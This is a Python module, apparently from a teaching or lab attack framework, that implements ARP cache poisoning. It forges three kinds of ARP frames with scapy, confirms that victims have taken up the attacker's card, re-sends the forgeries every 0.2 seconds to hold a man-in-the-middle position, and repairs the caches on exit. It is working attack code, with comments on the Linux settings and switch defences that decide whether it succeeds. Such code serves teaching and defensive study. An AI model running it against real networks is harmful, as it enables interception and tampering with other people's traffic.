"""Lying about whose card is whose: forged ARP (RFC 826), which believes whoever speaks.

Mallory tells her victims that each other's addresses are at her own card, again and again, since any true broadcast
repairs what she has said; on her way out, also where she is stopped, she tells all of them the truth.
"""

import asyncio
import contextlib
import socket
from collections.abc import AsyncIterator, Callable, Collection, Sequence
from functools import cache
from typing import Any, Final

from attacks import Foothold
from common.errors import LabError
from common.lan import LanHost

EVERY: Final = 0.2
"""Seconds between two rounds of forged ARP."""
TAKING_SECONDS: Final = 3.0
"""How long victims are told before it is clear that they do not hear it: fifteen rounds, where one or two do."""
ETHERTYPE: Final = b"\x08\x06"
BROADCAST: Final = "ff:ff:ff:ff:ff:ff"

Pair = tuple[str, str]
"""Addresses: who is lied to, and about whom."""

SLOWLY: Final = (
    "To {victim}, as if {other} asked: “who has {victim}? tell {other}, at {card}”. Whoever is asked something "
    "notes down where the asker is, in order to answer; so an entry is made even where there was none.",
    "To {victim}: “who has {other}? tell {other}, at {card}”, a gratuitous request, with which an honest host "
    "announces that its card has changed. It overrides an entry that is there.",
    "To {victim}, an answer to a question that nobody asked: “{other} is at {card}”. ARP remembers no questions, so it "
    "cannot tell; but an answer alone makes no new entry on Linux, which is why the other two come first.",
)
"""What each of the three frames of `told` says, for those who follow slowly."""


@cache
def told(victim: str, victim_card: str, other: str, other_card: str, sender_card: str) -> list[bytes]:
    """Three ways of saying to `victim` "`other` is at `other_card`": no single one is believed in every state.

    A request makes an entry where there was none; a gratuitous request and a reply override one that there was
    (Linux, net.ipv4.conf.*.arp_accept=0).
    """
    from scapy.layers.l2 import ARP, Ether

    ether = Ether(src=sender_card, dst=victim_card)
    return [
        bytes(ether / ARP(op=1, hwsrc=other_card, psrc=other, pdst=victim)),
        bytes(ether / ARP(op=1, hwsrc=other_card, psrc=other, pdst=other)),
        bytes(ether / ARP(op=2, hwsrc=other_card, psrc=other, pdst=victim, hwdst=victim_card)),
    ]


@contextlib.asynccontextmanager
async def poisoned(
    foothold: Foothold, host: LanHost, card: socket.socket, cards: dict[str, str], pairs: Sequence[Pair]
) -> AsyncIterator[None]:
    """Keep each victim's ARP cache saying that the other of its pair is at us; at the end, put the caches right.

    card: our own. cards: the true cards, by address. Where not all victims hear it within TAKING_SECONDS, the foothold
    is told that the position was missed, and the block runs all the same.
    """
    forged = [frame for victim, other in pairs for frame in told(victim, cards[victim], other, host.mac, host.mac)]
    truth = [frame for victim, other in pairs for frame in told(victim, cards[victim], other, cards[other], host.mac)]
    try:
        await _explained(foothold, host, cards, pairs, card)
        deaf = await _until_answered(card, host, forged, pairs)
        _say(foothold, host, {victim for victim, _ in pairs}, deaf)
        keeping = asyncio.create_task(_keep(card, forged))
        try:
            yield
        finally:
            keeping.cancel()
    finally:
        send(card, truth)
        foothold.note("ARP: told everybody again whose card is whose")


def _say(foothold: Foothold, host: LanHost, victims: set[str], deaf: set[str]) -> None:
    """Whether it took, as far as Mallory can know."""
    if deaf:
        names = ", ".join(sorted(foothold.name_of(address) for address in deaf))
        foothold.missed(
            f"in {TAKING_SECONDS:g} s no answer came to what she told {names} by ARP; either the switch lets no forged "
            "ARP through (arp_inspection), or they have gone"
        )
    else:
        foothold.note(f"ARP: told {len(victims)} hosts that the others are at {host.mac}, and they answered there")


async def _explained(
    foothold: Foothold, host: LanHost, cards: dict[str, str], pairs: Sequence[Pair], card: socket.socket
) -> None:
    """The frames to the first victim one by one, each with what it says; in a fast run nothing."""
    victim, other = pairs[0]
    names = {"victim": foothold.name_of(victim), "other": foothold.name_of(other), "card": host.mac}
    for text, frame in zip(SLOWLY, told(victim, cards[victim], other, host.mac, host.mac), strict=True):
        if foothold.slow:
            send(card, [frame])
            await foothold.explain(text.format(**names))
    await foothold.explain(
        f"The same now for every pair of {len({v for v, _ in pairs})} hosts, again every {EVERY:g} s: any true "
        "broadcast would put an entry right. That they answer to Mallory's card shows that they have heard it."
    )


async def true_cards(
    host: LanHost, card: socket.socket, addresses: Collection[str], name_of: Callable[[str], str] = str
) -> dict[str, str]:
    """Ask the ordinary way whose card these addresses are at. Raises LabError where nobody answers for one."""
    from scapy.layers.l2 import ARP, Ether

    ether = Ether(src=host.mac, dst=BROADCAST)
    asked = [bytes(ether / ARP(hwsrc=host.mac, psrc=host.address, pdst=address)) for address in addresses]
    cards: dict[str, str] = {}

    def take(arp: Any) -> bool:
        cards[arp.psrc] = arp.hwsrc
        return set(addresses) <= set(cards)

    if not await _answers(card, host, asked, take):
        absent = ", ".join(f"{address} ({name_of(address)})" for address in addresses if address not in cards)
        raise LabError(f"Nobody answers ARP for {absent}; there is no such host on this network, so no way between.")
    return cards


async def _until_answered(card: socket.socket, host: LanHost, forged: list[bytes], pairs: Sequence[Pair]) -> set[str]:
    """Send the forged frames until each victim has answered, to us, the request that pretended to be each other host:
    the event that shows that it was heard. Returns those who did not."""
    missing = {(victim, other) for victim, other in pairs}

    def take(arp: Any) -> bool:
        missing.discard((arp.psrc, arp.pdst))
        return not missing

    await _answers(card, host, forged, take)
    return {victim for victim, _ in missing}


async def _answers(card: socket.socket, host: LanHost, frames: list[bytes], take: Callable[[Any], bool]) -> bool:
    """Send frames, again every EVERY seconds, and give `take` each ARP reply to us until it is content; False where it
    is not within TAKING_SECONDS."""
    from scapy.layers.l2 import ARP, Ether

    own = bytes.fromhex(host.mac.replace(":", ""))

    async def listen() -> None:
        loop = asyncio.get_running_loop()
        while True:
            frame = await loop.sock_recv(card, 1 << 16)
            if frame[:6] != own or frame[12:14] != ETHERTYPE:  # not worth a closer look
                continue
            packet = Ether(frame)
            if ARP in packet and packet[ARP].op == 2 and packet.dst == host.mac and take(packet[ARP]):
                return

    listening = asyncio.create_task(listen())
    try:
        async with asyncio.timeout(TAKING_SECONDS):
            while not listening.done():
                send(card, frames)
                await asyncio.wait([listening], timeout=EVERY)
        listening.result()
    except TimeoutError:
        return False
    finally:
        listening.cancel()
    return True


async def _keep(card: socket.socket, forged: list[bytes]) -> None:
    while True:
        await asyncio.sleep(EVERY)
        send(card, forged)


def send(card: socket.socket, frames: list[bytes]) -> None:
    """Send each frame; a card that is full or down loses it, as cards do, and the next round makes up for it."""
    for frame in frames:
        with contextlib.suppress(OSError):
            card.send(frame)
